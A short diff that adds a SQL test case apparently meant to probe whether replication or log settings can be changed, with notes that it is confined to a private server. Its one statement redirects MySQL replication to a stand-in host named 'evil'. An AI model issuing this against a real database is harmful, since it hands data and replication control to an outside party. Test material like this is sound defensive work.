@@ -1,0 +1,4 @@
+-- tries: change replication or logs
+-- finding: none by reading
+-- sides: confined on a private server, without rights on one in use
+CHANGE MASTER TO MASTER_HOST='evil';
